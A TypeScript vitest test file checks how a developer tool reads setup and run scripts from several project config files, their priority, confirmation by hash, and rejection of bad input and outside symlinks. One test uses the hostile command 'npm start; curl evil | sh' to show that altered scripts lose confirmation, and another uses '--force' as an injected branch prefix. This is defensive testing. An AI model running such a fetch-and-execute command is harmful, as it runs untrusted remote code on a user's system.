import { mkdirSync, mkdtempSync, realpathSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';

import { afterEach, beforeEach, describe, expect, test } from 'vitest';

import { NodeFileProbe } from '#core/adapters/files/node-file-probe.ts';
import { NodeFileReads } from '#core/adapters/files/node-file-reads.ts';
import { NO_OWN_SETUP, type OwnSetup } from '#shared/project/project.ts';
import { DEFAULT_COPY } from '#shared/project/project-setup.ts';

import { ProjectSetups } from './project-setups.ts';

let root: string;
beforeEach(() => {
  root = realpathSync(mkdtempSync(join(tmpdir(), 'corral-setup-')));
});
afterEach(() => rmSync(root, { recursive: true, force: true }));

const setups = new ProjectSetups({ reads: new NodeFileReads(), probes: new NodeFileProbe() });
const read = (own: Partial<OwnSetup> = {}, confirmed: string[] = []) =>
  setups.read(root, { own: { ...NO_OWN_SETUP, ...own }, confirmed });

function write(name: string, content: unknown): void {
  mkdirSync(dirname(join(root, name)), { recursive: true });
  const text = typeof content === 'string' ? content : JSON.stringify(content);
  writeFileSync(join(root, name), text);
}

describe('ProjectSetups', () => {
  test('ProjectSetups returns defaults for a folder without files', async () => {
    expect(await setups.read(root, null)).toEqual({
      setup: null,
      run: null,
      copy: { value: [...DEFAULT_COPY], from: 'default' },
      branchPrefix: { value: '', from: 'default' },
      ports: { value: 10, from: 'default' },
      files: [],
      problems: [],
    });
  });

  test('ProjectSetups reads all values of corral.json and ignores fields that it does not know', async () => {
    write('corral.json', {
      setup: ['npm ci', 'npm run build'],
      run: 'npm start',
      copy: ['/.env', 'keys/'],
      branchPrefix: 'me/',
      ports: 5,
      later: { any: 1 },
    });
    expect(await read()).toMatchObject({
      setup: { text: 'npm ci\nnpm run build', from: 'corral.json', isConfirmed: false },
      run: { text: 'npm start' },
      copy: { value: ['/.env', 'keys/'], from: 'corral.json' },
      branchPrefix: { value: 'me', from: 'corral.json' },
      ports: { value: 5, from: 'corral.json' },
      problems: [],
    });
  });

  test('ProjectSetups reads the scripts of conductor.json, the commands of Superset and the patterns of .worktreeinclude', async () => {
    write('conductor.json', {
      scripts: { setup: './setup.sh', archive: 'x' },
      runScriptMode: 'concurrent',
    });
    write('.superset/config.json', {
      setup: ['bun i'],
      teardown: ['x'],
      run: ['bun dev', 'bun watch'],
    });
    write('.worktreeinclude', '\uFEFF# secrets\n.env\n\n!test.key  \r\nkeys/\\ \n');
    expect(await read()).toMatchObject({
      setup: { text: './setup.sh', from: 'conductor.json' },
      run: { text: 'bun dev\nbun watch', from: '.superset/config.json' },
      copy: { value: ['.env', '!test.key', 'keys/\\ '], from: '.worktreeinclude' },
      files: ['conductor.json', '.superset/config.json', '.worktreeinclude'],
    });
  });

  test('ProjectSetups prefers the person to corral.json, and corral.json to the other files', async () => {
    write('corral.json', { run: 'own', copy: ['a'] });
    write('conductor.json', { scripts: { run: 'other', setup: 'other' } });
    write('.worktreeinclude', 'b');
    const found = await read({ setup: 'mine', ports: 3 });
    expect(found).toMatchObject({
      setup: { text: 'mine', from: 'person', isConfirmed: true },
      run: { text: 'own', from: 'corral.json', isConfirmed: false },
      copy: { value: ['a'] },
      ports: { value: 3, from: 'person' },
    });
  });

  test('A script of a file is confirmed only with its exact text, and an empty one of the person switches it off', async () => {
    write('corral.json', { run: 'npm start' });
    const hash = (await read()).run?.hash ?? '';
    expect((await read({}, [hash])).run?.isConfirmed).toBe(true);
    write('corral.json', { run: 'npm start; curl evil | sh' });
    expect((await read({}, [hash])).run?.isConfirmed).toBe(false);
    expect((await read({ run: '' })).run).toBeNull();
    write('corral.json', { run: '   ' });
    expect((await read()).run).toBeNull();
  });

  test.each([
    ['no JSON', '{'],
    ['a script that is a number', { run: 5 }],
    ['a branch prefix that git would read as an option', { branchPrefix: '--force' }],
    ['a number of ports that is not positive', { ports: 0 }],
    ['a list', []],
    ['more than 256 KiB', { run: 'x', more: 'x'.repeat(300_000) }],
  ])('A corral.json with %s is a problem, and the other files are used', async (_, content) => {
    write('corral.json', content);
    write('conductor.json', { scripts: { run: 'other' } });
    expect(await read()).toMatchObject({
      run: { text: 'other' },
      files: ['conductor.json'],
      problems: [{ file: 'corral.json' }],
    });
  });

  test('A file that is a link out of the folder, or a folder, is not read', async () => {
    const outside = join(root, 'outside.json');
    writeFileSync(outside, '{"run": "stolen"}');
    const inside = join(root, 'inside');
    mkdirSync(join(inside, 'conductor.json'), { recursive: true });
    symlinkSync(outside, join(inside, 'corral.json'));
    const found = await setups.read(inside, null);
    expect(found.run).toBeNull();
    expect(found.problems.map(({ file }) => file)).toEqual(['corral.json', 'conductor.json']);
  });
});
